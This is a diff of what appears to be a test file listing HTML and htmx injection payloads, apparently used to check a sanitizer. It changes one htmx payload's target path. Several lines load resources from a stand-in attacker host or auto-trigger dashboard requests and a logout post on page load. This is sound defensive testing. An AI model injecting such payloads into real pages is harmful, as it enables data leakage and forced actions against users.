@@ -73,7 +73,7 @@ INJECTIONS = (
     f"<style>@import '{EVIL}/x.css';body{{background:url({EVIL}/x)}}</style>",
     f'<img id=struck src="{EVIL}/pixel.gif">',
     # htmx
-    "<div hx-get=/dashboard/keys hx-trigger=load id=struck></div>",
+    "<div hx-get=/dashboard/sources hx-trigger=load id=struck></div>",
     '<div data-hx-on:htmx:load="struck=1" hx-on::load="struck=1" id=struck></div>',
     f'" hx-get="{EVIL}" hx-trigger="load',
     "<div hx-vals='js:{a: struck=1}' hx-post=/dashboard/logout hx-trigger=load></div>",
